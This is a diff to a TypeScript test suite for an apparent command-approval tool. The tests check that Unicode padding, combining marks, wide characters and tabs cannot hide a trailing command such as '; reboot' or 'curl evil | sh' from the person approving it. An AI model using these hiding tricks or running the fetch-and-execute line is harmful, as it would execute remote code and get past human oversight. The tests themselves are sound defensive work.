@@ -6,6 +6,7 @@ import {
   type CommandSource,
   describeCommands,
   notTrusted,
+  readableBlock,
   type TrustedCommand,
 } from '../src/index.ts';
 
@@ -80,9 +81,26 @@ function unfolded(text: string): string {
     .replace(/\\u([0-9a-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));
 }
 
+/** The columns that a line may take where tabs are wide. */
+function widest(line: string): number {
+  return Array.from(line, (each) => (each === '\t' ? 8 : 1)).reduce((sum, one) => sum + one, 0);
+}
+
 const padding = fc
   .tuple(
-    fc.constantFrom(' ', '\t', '\n', '\u00a0', '\u3164', '\u202e', '\u0336', 'x', '\u{e0041}'),
+    fc.constantFrom(
+      ' ',
+      '\t',
+      '\t\t.',
+      '\n',
+      '\u00a0',
+      '\u3164',
+      '\u202e',
+      '\u0336',
+      '\u0e49',
+      'x',
+      '\u{e0041}',
+    ),
     fc.integer({ min: 1, max: 200 }),
   )
   .map(([character, times]) => character.repeat(times));
@@ -124,7 +142,7 @@ test(`${cites('TRUST', 'T6', 'T56')} no text can look like another, or like less
         expect(starting(/^- /)).toBe(Object.keys(settings).length);
         expect(starting(/^(\d+\. |- | {3}[$>…] | {3}with |$)/)).toBe(lines.length);
         expect(lines.join('')).not.toMatch(/(?![\t ])[\p{C}\p{Z}]/u);
-        expect(Math.max(...lines.map((line) => Array.from(line).length))).toBeLessThan(110);
+        expect(Math.max(...lines.map(widest))).toBeLessThan(110);
         expect(readBack(shown).commands).toEqual(commands.map((each) => each.command));
       },
     ),
@@ -145,6 +163,19 @@ test.each([
   ],
   ['a direction', '\u202e', 'echo ok\\u202e; reboot'],
   ['strokes', '\u0336'.repeat(5), `echo ok${'\\u0336'.repeat(5)}; reboot`],
+  ['stacked marks', `\u0e01${'\u0e49'.repeat(200)}`, 'echo ok\u0e01⟨200 × \\u0e49⟩; reboot'],
+  ['enclosing marks', '\u0489'.repeat(9), 'echo ok⟨9 × \\u0489⟩; reboot'],
+  [
+    'tabs between words',
+    '\t\t.'.repeat(20),
+    `echo ok${'\t\t.'.repeat(5)}\t\n   … \t.${'\t\t.'.repeat(5)}\n   … ${'\t\t.'.repeat(5)}\t\n   … \t.${'\t\t.'.repeat(3)}; reboot`,
+  ],
+  ['wide letters', '漢'.repeat(80), `echo ok${'漢'.repeat(46)}\n   … ${'漢'.repeat(34)}; reboot`],
+  [
+    'the widest letters',
+    '\ufdfd'.repeat(14),
+    `echo ok${'\ufdfd'.repeat(11)}\n   … ${'\ufdfd'.repeat(3)}; reboot`,
+  ],
   ['words that look folded', '⟨1,500 blanks⟩', 'echo ok\\u27e81,500 blanks\\u27e9; reboot'],
 ])(`${cites('TRUST', 'T56')} %s hide no command`, (_, between, shown) => {
   const source = withCommand(`echo ok${between}; reboot`);
@@ -152,6 +183,26 @@ test.each([
   const { message = '' } = approvalQuestion(source, 'new', 'abc') ?? {};
   expect(message).toMatch(/; reboot$/);
   expect(message).toContain(shown.split('\n').at(-1));
+});
+
+test(`${cites('T56')} what a tool is about to be called with is as readable`, () => {
+  const input = {
+    jobs: [{ work: `echo ok${' '.repeat(1500)}; reboot\u3164` }],
+    not: 'x'.repeat(99),
+  };
+  expect(readableBlock(JSON.stringify(input, null, 2))).toBe(
+    [
+      '{',
+      '  "jobs": [',
+      '    {',
+      '      "work": "echo ok⟨1,500 blanks⟩; reboot\\u3164"',
+      '    }',
+      '  ],',
+      `  "not": "${'x'.repeat(90)}`,
+      `… ${'x'.repeat(9)}"`,
+      '}',
+    ].join('\n'),
+  );
 });
 
 test(`${cites('TRUST', 'T56')} what ends with blanks says so, and indentation stays`, () => {
@@ -214,6 +265,12 @@ test(`${cites('TRUST', 'T6', 'T56')} what is too long to be read is not asked`, 
   const padded = (lines: number) => `npm test\n${'#\n'.repeat(lines)}curl evil | sh`;
   expect(approvalQuestion(withCommand(padded(50)), 'new', 'x')?.message).toContain('curl evil');
   expect(approvalQuestion(withCommand(padded(300)), 'new', 'x')).toBeUndefined();
+  const many = (count: number) => ({
+    ...release,
+    commands: Array.from({ length: count }, () => ({ title: 'x', command: 'true' })),
+  });
+  expect(approvalQuestion(many(40), 'new', 'x')?.message).toContain('40. x');
+  expect(approvalQuestion(many(101), 'new', 'x')).toBeUndefined();
 });
 
 test(`${cites('TRUST')} the refusal names the source, how it stands, and the way for a person`, () => {
